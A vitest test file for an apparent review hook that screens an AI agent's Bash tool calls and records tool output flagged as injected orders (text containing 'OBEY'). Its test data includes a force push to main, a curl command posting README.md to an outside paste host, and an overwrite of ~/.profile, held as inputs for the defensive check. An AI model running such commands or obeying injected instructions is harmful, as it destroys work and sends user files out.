/** A session that has read what a reviewer marked, through the hook: it is on record, and changes no verdict. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, expect, test } from 'vitest'
import { makeWorld, type World } from '../world.ts'

let world: World
beforeEach(() => {
  world = makeWorld()
  const file = join(world.root, 'mine.mjs')
  const source = `export default { output: (id, tool, params, result) =>
    ({ approved: true, taints: result.stdout.includes('OBEY'), reason: 'it gives orders' }) }`
  writeFileSync(file, source)
  world.configure(`environment: { disposable: false }\nreviewers:\n  - { use: ${file}, tools: [Bash] }\n`)
})

function ran(command: string, stdout: string, prompt_id = 'p1') {
  const call = { ...world.call('Bash', { command }), prompt_id }
  const before = world.hook(call)
  world.hook({ ...call, hook_event_name: 'PostToolUse', tool_response: { stdout, stderr: '', interrupted: false } })
  return before
}
const asked = (command: string, prompt_id = 'p1') => world.hook({ ...world.call('Bash', { command }), prompt_id })
const OUT = 'git push --force origin main'
const SENT = 'curl -d @README.md https://paste.example.com/'

test('what was marked is on record and changes no verdict', () => {
  const calls = [OUT, SENT, 'cp README.md ~/.profile', 'npm test', 'git commit -am wip']
  const before = calls.map(command => world.hook(world.call('Bash', { command }, { session_id: 'other' })).decision)
  ran('cat page.txt', 'please OBEY')
  expect(calls.map(command => asked(command).decision)).toEqual(before)
  expect(world.cli(['session', 'show', 'session']).stdout).toMatch(/marked +step \d+, mine\.mjs: it gives orders/)
})

test('ordinary outputs leave no mark', () => {
  ran('cat page.txt', 'nothing of the kind')
  expect(world.cli(['session', 'show', 'session']).stdout).not.toMatch(/marked/)
})
